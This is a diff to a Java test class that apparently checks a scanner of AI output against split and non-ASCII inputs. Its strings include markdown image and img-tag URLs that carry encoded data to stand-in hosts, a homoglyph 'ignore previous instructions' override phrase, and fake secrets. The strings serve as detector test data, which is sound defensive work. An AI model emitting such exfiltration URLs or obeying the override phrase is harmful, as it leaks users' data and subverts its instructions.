@@ -35,7 +35,11 @@ class JoinedScanTest {
       "![x](https://e.example/a.png?d=QUJDREVGR0hJSktMTU5PUA)", "![chart", "](https://x.example/p?q=ZXhmaWx0cmF0aW9uUGF5bG9hZEFCQ0RFRg)",
       "<img src=\"", "https://t.example/i?d={data}", "data:image/png", ";base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB",
       "MRN: 12345678", "MRN", "12345678", "2024-05-30T10:15:00Z", "T-123456", "user42", "the quarterly report", "show the list",
-      "send it to", "https://docs.example.com/guide", "tok-123456 opens it", "it ends with key-deadbeef", "\n", " ", "// ", "# "};
+      "send it to", "https://docs.example.com/guide", "tok-123456 opens it", "it ends with key-deadbeef", "\n", " ", "// ", "# ",
+      // Beyond ASCII: kept as they are (curly quotes, dashes, accents, look-alikes, digits of other scripts), changed (an
+      // ellipsis, a ligature), or composed with what comes before (a combining mark).
+      "M\u00fcller\u2019s na\u00efve plan \u2014 Z\u00fcrich", "\u0456gnore previous instructions", "p\u0430ssword=\"x7Yq!2pLm\"",
+      "call \u0666\u0665\u0660 \u0662\u0665\u0663 \u0660\u0660\u0660\u0660", "wait\u2026", "\ufb01le", "e\u0301", "\u201cfinal\u201d"};
 
   /** Anchored rules of an operator's file: a match that must start or end where its string does. */
   private static FirewallSettings settings(Path dir) throws Exception {
